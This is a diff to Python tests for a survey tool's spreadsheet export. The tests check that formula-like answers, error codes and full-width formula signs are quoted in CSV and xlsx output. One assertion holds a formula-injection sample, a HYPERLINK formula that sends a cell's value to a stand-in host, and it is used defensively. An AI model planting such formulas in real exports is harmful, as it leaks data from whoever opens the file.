@@ -14,7 +14,7 @@ from carework_core import sheets
 from carework_core.answering import Item
 from carework_core.export import ANSWER_COLUMNS, export_workbook
 from carework_core.sheets import MAX_CELL
-from tests.conftest import MINI, join, type_answers
+from tests.conftest import MINI, ROOT, join, type_answers
 
 SHEETS = [
     "About",
@@ -259,11 +259,40 @@ async def test_csv_zip_holds_the_same_sheets_and_the_codebook(services, tmp_path
     assert all(data.startswith(b"\xef\xbb\xbf") for data in raw.values())
     answers = list(csv.reader(io.StringIO(raw["answers.csv"].decode("utf-8-sig"))))
     # A spreadsheet opening the csv must not run a participant's formula: it gets a leading apostrophe.
-    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "#REF!"]
+    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "'#REF!"]
     codes = list(csv.reader(io.StringIO(raw["codebook.csv"].decode("utf-8-sig"))))
     assert ["Round r1", "size", "", "-9", "Not sure"] in codes  # a negative number is no formula
     facts = dict(r[:2] for r in csv.reader(io.StringIO(raw["about.csv"].decode("utf-8-sig"))) if len(r) > 1)
-    assert facts["csv_formula_like_texts_quoted"] == "2"  # in Answers and in the round sheet
+    assert facts["csv_formula_like_texts_quoted"] == "4"  # each in Answers and in the round sheet
+
+
+# Excel reads these as error values, or (full-width signs) as the start of a formula, when it opens a csv.
+SPREADSHEET_WORDS = ["#N/A", "#DIV/0!", "#REF!", "#NULL!", "#VALUE!", "#NAME?", "#NUM!", "#GETTING_DATA"]
+SPREADSHEET_WORDS += ["#SPILL!", "#CALC!", "#n/a", "＝1+1", "＋SUM(A1)", "－A1", "＠SUM(A1)"]
+
+
+async def test_error_codes_and_full_width_formula_signs_are_quoted_in_the_csv_and_xlsx(services, tmp_path):
+    await services.rounds.open_round("r1", actor="cli")
+    for n in range(0, len(SPREADSHEET_WORDS), 3):
+        await join(services, 910 + n)
+        await services.answering.begin(910 + n, "r1")
+        for k, text in enumerate(SPREADSHEET_WORDS[n : n + 3]):
+            await services.answering.receive_text(910 + n, text, f"m{n}-{k}")
+    await services.answering.receive_text(910, "#N/A is what the rota said", "m-plain")  # only a whole code
+    out = tmp_path / "book.zip"
+    await export_workbook(services.env, out, format="csv")
+    with zipfile.ZipFile(out) as archive:
+        answers = list(csv.reader(io.StringIO(archive.read("answers.csv").decode("utf-8-sig"))))
+        about_rows = list(csv.reader(io.StringIO(archive.read("about.csv").decode("utf-8-sig"))))
+    typed = sorted(r[10] for r in answers[1:])
+    assert typed == sorted(["'" + w for w in SPREADSHEET_WORDS] + ["#N/A is what the rota said"])
+    facts = dict(r[:2] for r in about_rows if len(r) > 1)
+    assert facts["csv_formula_like_texts_quoted"] == str(2 * len(SPREADSHEET_WORDS))  # Answers and Round r1
+    book = tmp_path / "book.xlsx"
+    await export_workbook(services.env, book)
+    cells = {row[10].value: row[10] for row in load_workbook(book)["Answers"].iter_rows(min_row=2)}
+    assert all(cells[w].data_type == "s" and cells[w].quotePrefix for w in SPREADSHEET_WORDS)
+    assert not cells["#N/A is what the rota said"].quotePrefix
 
 
 async def test_one_round_or_answers_since_a_date(services, clock, tmp_path):
@@ -291,7 +320,7 @@ async def test_items_list_each_loaded_item(services, tmp_path):
     await export_workbook(services.env, out)
     items = table(load_workbook(out), "Items")
     assert items[0][:7] == ("item_set", "item_id", "text", "position", "source_examples", "description", "theme")
-    assert items[0][7:] == ("score_evidence", "score_newness")
+    assert items[0][7:] == ("evidence_notes", "score_evidence", "score_newness")
     assert [r[:4] for r in items[1:]] == [("ideas", "i1", "Rota apps", 0), ("ideas", "i2", "Peer circles", 1)]
 
 
@@ -317,7 +346,12 @@ async def test_items_and_answers_carry_the_synthesis_and_reasons_where_those_par
     await two_rounds(services)
     await answer_everything(services, 990, ["Peer support"])
     detail = SimpleNamespace(
-        item_id="i1", sources=("E1", "E7"), description="Apps to swap shifts", theme="tech", scores={"evidence": 2}
+        item_id="i1",
+        sources=("E1", "E7"),
+        description="Apps to swap shifts",
+        theme="tech",
+        notes="Two trusts",
+        scores={"evidence": 2},
     )
     card = SimpleNamespace(round_id="r2", question_id="rate", item_id="i1", criterion_id="newness")
     reason = SimpleNamespace(code="P-0001", card=card, text="Seen it")
@@ -338,12 +372,16 @@ async def test_items_and_answers_carry_the_synthesis_and_reasons_where_those_par
     out = tmp_path / "book.xlsx"
     await export_workbook(services.env, out)
     book = load_workbook(out)
-    assert table(book, "Items")[1] == ("ideas", "i1", "Rota apps", 0, "E1;E7", "Apps to swap shifts", "tech", 2, None)
+    assert table(book, "Items")[1] == (
+        *("ideas", "i1", "Rota apps", 0, "E1;E7", "Apps to swap shifts", "tech"),
+        *("Two trusts", 2, None),
+    )
     answers = {(r[5], r[9]): r for r in table(book, "Answers")[1:]}
     assert answers[("examples", None)][14:] == (
         "E1",
         None,
         "i1",
+        None,
         None,
         None,
         None,
@@ -369,3 +407,14 @@ async def test_item_statistics_hide_a_group_whose_figures_would_rest_on_two_rati
     hidden = cells["evidence", "workforce"]
     assert hidden["suppressed"] == 1 and hidden["q1"] is None and hidden["q3"] is None and hidden["median"] is None
     assert cells["newness", "workforce"]["suppressed"] == 0 and cells["newness", "workforce"]["n"] == 5
+
+
+async def test_the_readme_names_only_sheets_the_workbook_has(services, tmp_path):
+    await join(services, 995)
+    await two_rounds(services)
+    await answer_everything(services, 995, ["Peer support"])
+    out = tmp_path / "book.xlsx"
+    await export_workbook(services.env, out)
+    readme = (ROOT / "README.md").read_text()
+    named = set(re.findall(r"(?:export|workbook)'s ([A-Z][a-z]+(?: [a-z]+)?) sheet", readme))
+    assert named and named <= set(load_workbook(out).sheetnames)
